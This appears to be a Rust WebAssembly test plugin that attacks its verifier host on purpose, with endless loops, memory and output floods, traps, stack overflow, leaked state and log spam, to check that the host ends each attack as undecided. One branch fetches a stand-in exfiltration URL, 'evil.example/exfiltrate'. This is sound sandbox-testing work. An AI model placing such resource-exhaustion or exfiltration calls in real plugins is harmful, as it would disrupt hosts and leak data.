//! A hostile plugin for the host's tests: `plugin_params.attack` (verify
//! mode) or the task's data (re-execution) picks what it does to the host.
//! Every attack must end undecided, with its cause, within the deadline.

wit_bindgen::generate!({ path: "wit", world: "attacks", generate_all });

use std::{
    hint::black_box,
    sync::atomic::{AtomicU32, Ordering},
};

use taskproof::verifier::host::{http_get, keccak256, log};

struct Attacks;

/// Runs `attack`; returns what a well-behaved plugin would say otherwise.
fn attack(name: &str) -> Result<Vec<u8>, String> {
    match name {
        "loop" => loop {
            black_box(());
        },
        "memory" => {
            // Keep every block alive so that memory only grows.
            let mut blocks = Vec::new();
            loop {
                blocks.push(black_box(vec![1u8; 16 << 20]));
            }
        }
        "output" => Ok(vec![b'x'; 100 << 20]),
        "trap" => core::arch::wasm32::unreachable(),
        "stack" => Ok(deep(black_box(0)).to_le_bytes().to_vec()),
        "state" => {
            // A second call in the same instance would see the first's count.
            static CALLS: AtomicU32 = AtomicU32::new(0);
            match CALLS.fetch_add(1, Ordering::Relaxed) {
                0 => Ok(b"first call".to_vec()),
                n => Err(format!("state leaked: call {n} of this instance")),
            }
        }
        "valid" => Ok(b"valid".to_vec()),
        _ => Err(format!("unknown attack {name}")),
    }
}

#[allow(unconditional_recursion)]
fn deep(n: u64) -> u64 {
    let pad = black_box([n; 64]);
    deep(black_box(pad[3] + 1)) + pad[7]
}

impl Guest for Attacks {
    fn verify(params: String, _task: Task) -> Verdict {
        let name = params
            .split("\"attack\":\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .unwrap_or("")
            .to_owned();
        match name.as_str() {
            "http" => match http_get("https://evil.example/exfiltrate") {
                // A plugin that turns its own failed fetch into a reject vote:
                // the host must make it undecided.
                Err(_) => Verdict::Invalid("the source did not answer".into()),
                Ok(_) => Verdict::Valid,
            },
            "log" => loop {
                log("spam");
            },
            "host-loop" => loop {
                black_box(keccak256(&[0u8; 1024]));
            },
            "output" => Verdict::Invalid("x".repeat(100 << 20)),
            _ => match attack(&name) {
                Ok(_) => Verdict::Valid,
                Err(e) => Verdict::Undecided(e),
            },
        }
    }

    fn execute(input: Vec<u8>) -> Result<Vec<u8>, String> {
        attack(core::str::from_utf8(&input).unwrap_or(""))
    }
}

export!(Attacks);
